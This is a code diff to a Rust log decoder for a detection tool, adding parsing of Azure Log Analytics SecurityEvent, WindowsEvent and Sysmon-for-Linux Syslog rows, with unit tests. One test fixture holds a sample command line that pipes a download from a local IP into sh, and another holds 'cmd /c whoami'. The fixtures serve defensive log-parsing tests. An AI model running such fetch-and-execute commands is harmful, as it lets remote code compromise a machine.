@@ -5,6 +5,8 @@
 //! | Windows, nested (`evtx` JSON, `Event.System`/`Event.EventData`) | root key `Event` | windows, service from channel | Sigma names (`EventID`, `Provider_Name`, `CommandLine`) + full paths |
 //! | Windows, flat (NXLog / OTRF exports) | `EventID` with `Channel` or `SourceName` | windows, service from channel | as exported, plus `Provider_Name` (from `SourceName`) and, for classic PowerShell and Application, `Data` (the message) |
 //! | Windows, Winlogbeat (`winlog.channel`, `winlog.event_data…`) | the same, by the names below | windows, service from channel | `winlog.event_data.X` / `winlog.user_data.X` → `X`, `winlog.event_id` → `EventID`, `winlog.channel` → `Channel`, `winlog.provider_name` → `Provider_Name`, `winlog.computer_name` → `Computer` + full paths; Sysmon fields Elastic's module moved to ECS names get their Sysmon names back ([`crate::ecs_sysmon`]) |
+//! | Windows, Log Analytics (`SecurityEvent`, `WindowsEvent`) | as flat | as flat | as flat, plus the `EventData` text column (XML or JSON) read into its fields ([`crate::log_analytics`]); provider from `EventSourceName` or `Provider` |
+//! | Log Analytics `Syslog` row holding a Sysmon for Linux `<Event>` | `SyslogMessage` | linux, Sysmon category | the event's own, decoded from the XML |
 //! | Suricata EVE | `event_type` with `flow_id`, `src_ip` or `timestamp` | suricata, service = event type | dotted paths (`alert.signature`) |
 //! | Zeek JSON | `ts` with `uid`, `_path`, `fuid` or `id.orig_h` | zeek, service = `_path` or file name | Zeek names (`id.orig_h`) |
 //! | AWS CloudTrail | `eventSource`, `eventName`, `awsRegion` | aws/cloudtrail | CloudTrail paths |
@@ -20,8 +22,10 @@ use watchfloor_event::{Event, FieldId, LogSource, Value};
 use crate::antivirus::AntivirusNames;
 use crate::ecs_sysmon::EcsSysmon;
 use crate::json_walk::{self, Naming, PathIds};
+use crate::log_analytics;
 use crate::security_stand_in::StandInNames;
 use crate::time::{from_epoch_f64, parse_timestamp};
+use crate::windows_xml::XmlEvents;
 use crate::{DecodeContext, DecodeErrorKind, LineDecoder, windows};
 
 /// Which flavour a JSON record was recognised as.
@@ -83,6 +87,11 @@ struct Known {
     time: FieldId,
     time_generated: FieldId,
     date: FieldId,
+    /// Log Analytics: the event data column, the provider columns, the syslog message.
+    event_data: FieldId,
+    provider: FieldId,
+    event_source_name: FieldId,
+    syslog_message: FieldId,
 }
 
 impl Known {
@@ -116,6 +125,10 @@ impl Known {
             time: ctx.id("time"),
             time_generated: ctx.id("TimeGenerated"),
             date: ctx.id("date"),
+            event_data: ctx.id("EventData"),
+            provider: ctx.id("Provider"),
+            event_source_name: ctx.id("EventSourceName"),
+            syslog_message: ctx.id("SyslogMessage"),
         }
     }
 }
@@ -174,6 +187,23 @@ impl JsonDecoder {
         } else {
             recognise(&known, ev)
         };
+        match flavour {
+            JsonFlavour::WindowsFlat => expand_event_data(ctx, &known, ev),
+            JsonFlavour::Generic => {
+                // Sysmon for Linux in a Log Analytics `Syslog` row: the event is the XML.
+                let xml = ev
+                    .get(known.syslog_message)
+                    .and_then(|v| v.as_str())
+                    .and_then(log_analytics::sysmon_xml)
+                    .map(str::to_owned);
+                if let Some(xml) = xml {
+                    let json = sysmon_xml_json(&xml)?;
+                    ev.clear();
+                    return self.decode_object(ctx, &json, ev);
+                }
+            }
+            _ => {}
+        }
         self.finish(&known, flavour, ev);
         self.last_flavour = Some(flavour);
         Ok(flavour)
@@ -186,6 +216,8 @@ impl JsonDecoder {
                 let provider = ev
                     .get(k.provider_name)
                     .or_else(|| ev.get(k.source_name))
+                    .or_else(|| ev.get(k.provider))
+                    .or_else(|| ev.get(k.event_source_name))
                     .and_then(|v| v.as_str());
                 let event_id = ev.get(k.event_id).and_then(|v| v.as_i64());
                 let mut ls = windows::logsource(channel, provider, event_id);
@@ -349,6 +381,38 @@ fn recognise(k: &Known, ev: &Event) -> JsonFlavour {
     }
 }
 
+/// A Log Analytics row's `EventData` column (XML or JSON text) read into the fields an
+/// EVTX rendering has; names the row already has are kept.
+fn expand_event_data(ctx: &mut DecodeContext, k: &Known, ev: &mut Event) {
+    let Some(text) = ev
+        .get(k.event_data)
+        .and_then(|v| v.as_str())
+        .filter(|t| t.len() > 1)
+        .map(str::to_owned)
+    else {
+        return;
+    };
+    for (name, value) in log_analytics::event_data_fields(&text).unwrap_or_default() {
+        let id = ctx.id(&name);
+        if ev.get(id).is_none() {
+            ev.push_str(id, id, &value);
+        }
+    }
+}
+
+/// A Sysmon for Linux `<Event>` as the JSON an EVTX record renders to.
+pub(crate) fn sysmon_xml_json(xml: &str) -> Result<Vec<u8>, DecodeErrorKind> {
+    let mut events = XmlEvents::new(xml.as_bytes(), xml.len().max(1));
+    match events.next_event() {
+        Some(Ok(json)) => Ok(json),
+        Some(Err(message)) => Err(DecodeErrorKind::syntax("sysmon-for-linux XML", message)),
+        None => Err(DecodeErrorKind::syntax(
+            "sysmon-for-linux XML",
+            "no <Event> element".to_string(),
+        )),
+    }
+}
+
 /// Gives a flat Windows export (NXLog) the names an EVTX rendering has and rules test:
 /// the provider (`SourceName`) as `Provider_Name`; and, on the channels whose events
 /// carry unnamed `Data` items (classic PowerShell, Application, Exchange management),
@@ -356,7 +420,10 @@ fn recognise(k: &Known, ev: &Event) -> JsonFlavour {
 /// `Data`.
 fn name_as_rendered(k: &Known, ev: &mut Event) {
     if ev.get(k.provider_name).is_none() {
-        ev.alias(k.source_name, k.provider_name);
+        // NXLog's `SourceName`; Log Analytics' `Provider` or `EventSourceName`.
+        let _ = ev.alias(k.source_name, k.provider_name)
+            || ev.alias(k.provider, k.provider_name)
+            || ev.alias(k.event_source_name, k.provider_name);
     }
     const UNNAMED_DATA_CHANNELS: &[&str] =
         &["Windows PowerShell", "Application", "MSExchange Management"];
@@ -607,6 +674,40 @@ mod tests {
             "windows/network_connection/security",
             &[("Image", "kept"), ("Initiated", "false")],
         );
+    }
+
+    #[test]
+    fn log_analytics_rows_give_their_event_data() {
+        // `SecurityEvent`: the data as XML text, the provider as `EventSourceName`.
+        assert_names(
+            r#"{"TimeGenerated":"2022-05-13T08:54:05.21Z","Computer":"WORKSTATION5","EventSourceName":"Microsoft-Windows-Security-Auditing","Channel":"Security","EventData":"<EventData xmlns=\"http://schemas.microsoft.com/win/2004/08/events/event\">\r\n  <Data Name=\"Application\">\\device\\harddiskvolume2\\tomcat9.exe</Data>\r\n  <Data Name=\"Direction\">%%14592</Data>\r\n  <Data Name=\"DestPort\">8080</Data>\r\n</EventData>","EventID":5156,"Type":"SecurityEvent"}"#,
+            "windows/network_connection/security",
+            &[
+                ("Application", "\\device\\harddiskvolume2\\tomcat9.exe"),
+                ("Image", "C:\\tomcat9.exe"),
+                ("Initiated", "false"),
+                ("DestinationPort", "8080"),
+                ("Provider_Name", "Microsoft-Windows-Security-Auditing"),
+            ],
+        );
+        // `WindowsEvent`: the data as JSON text.
+        assert_names(
+            r#"{"TimeGenerated":"2022-05-13T08:54:06.347Z","Provider":"Microsoft-Windows-Sysmon","Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"WORKSTATION5","EventData":"{\"Image\":\"C:\\\\Windows\\\\System32\\\\cmd.exe\",\"CommandLine\":\"cmd /c whoami\",\"ProcessId\":\"3936\"}","EventID":1,"Type":"WindowsEvent"}"#,
+            "windows/process_creation/sysmon",
+            &[
+                ("Image", "C:\\Windows\\System32\\cmd.exe"),
+                ("CommandLine", "cmd /c whoami"),
+                ("Provider_Name", "Microsoft-Windows-Sysmon"),
+            ],
+        );
+        // `Syslog` from Sysmon for Linux: the message is the event.
+        let (mut ctx, ev, _) = decode(
+            r#"{"TimeGenerated":"2022-05-11T18:10:20.4Z","Computer":"UBUNTU5","HostName":"UBUNTU5","SyslogMessage":"<Event><System><Provider Name=\"Linux-Sysmon\" Guid=\"{ff032593-a8d3-4f13-b0d6-01fc615a0f97}\"/><EventID>1</EventID><TimeCreated SystemTime=\"2022-05-11T18:10:20.399931000Z\"/><EventRecordID>245753</EventRecordID><Channel>Linux-Sysmon/Operational</Channel><Computer>UBUNTU5</Computer></System><EventData><Data Name=\"Image\">/usr/bin/curl</Data><Data Name=\"CommandLine\">curl http://192.168.2.6:8888/x | sh</Data></EventData></Event>","ProcessName":"sysmon","Type":"Syslog"}"#,
+        );
+        assert_eq!(ev.logsource.to_string(), "linux/process_creation/sysmon");
+        assert_eq!(ev.get(ctx.id("Image")), Some(Value::Str("/usr/bin/curl")));
+        assert_eq!(format_rfc3339(ev.time), "2022-05-11T18:10:20.399931Z");
+        assert_eq!(ev.get(ctx.id("Computer")), Some(Value::Str("UBUNTU5")));
     }
 
     #[test]
